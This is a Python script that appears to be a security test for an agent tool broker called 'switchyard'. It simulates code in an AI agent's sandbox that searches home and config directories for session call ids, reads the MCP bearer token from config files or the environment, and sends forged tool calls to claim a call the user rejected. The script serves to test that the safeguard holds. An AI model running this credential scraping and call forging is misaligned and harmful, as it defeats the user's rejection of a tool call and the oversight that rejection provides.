# The attack a rejected host-tool call must survive: the guest's own shell claims the call
# directly over MCP, with the token from its environment and every delivered identity it can
# find in the run's home (the guest's session files keep the calls it received).
import json, os, re, urllib.request

identities = set()
for top in {os.environ.get(v) for v in ("HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "TMPDIR")} - {None}:
    for root, _, files in os.walk(top):
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as f:
                    identities.update(re.findall(rb"sy[0-9a-f]{64}", f.read(16 << 20)))
            except OSError:
                pass

# Claude Code names a callback by its delivered call id (`_meta["claudecode/toolUseId"]`); its
# transcripts under the config directory keep the ids, and the MCP file beside it the token.
call_ids = set()
config = os.environ.get("CLAUDE_CONFIG_DIR")
if config:
    for root, _, files in os.walk(config):
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as f:
                    call_ids.update(re.findall(rb"call_[A-Za-z0-9_-]{26,}", f.read(16 << 20)))
            except OSError:
                pass
    mcp = json.load(open(os.path.join(os.path.dirname(config), "mcp.json")))["mcpServers"]["switchyard"]
    url = mcp["url"]
    token = mcp["headers"]["Authorization"].split(" ", 1)[1]
else:
    token = os.environ["SWITCHYARD_MCP_TOKEN"]
    settings = os.path.join(os.environ["HOME"], ".gemini", "settings.json")
    if os.path.exists(settings):
        url = json.load(open(settings))["mcpServers"]["switchyard"]["httpUrl"]
    else:
        url = json.loads(os.environ["OPENCODE_CONFIG_CONTENT"])["mcp"]["switchyard"]["url"]

def rpc(body):
    request = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST", headers={
        "Authorization": "Bearer " + token,
        "Content-Type": "application/json",
        "Accept": "application/json, text/event-stream",
    })
    with urllib.request.urlopen(request) as response:
        return response.read().decode()

rpc({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
    "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "claim", "version": "1"}}})
print("identities found:", len(identities) + len(call_ids))
for n, call_id in enumerate(sorted(call_ids)):
    print(rpc({"jsonrpc": "2.0", "id": 1000 + n, "method": "tools/call", "params": {
        "name": "record", "arguments": {"nonce": "rejected-1"},
        "_meta": {"claudecode/toolUseId": call_id.decode()}}}))
for n, identity in enumerate(sorted(identities)):
    print(rpc({"jsonrpc": "2.0", "id": 2 + n, "method": "tools/call", "params": {
        "name": "record", "arguments": {"nonce": "rejected-1", "_switchyard_call": identity.decode()}}}))
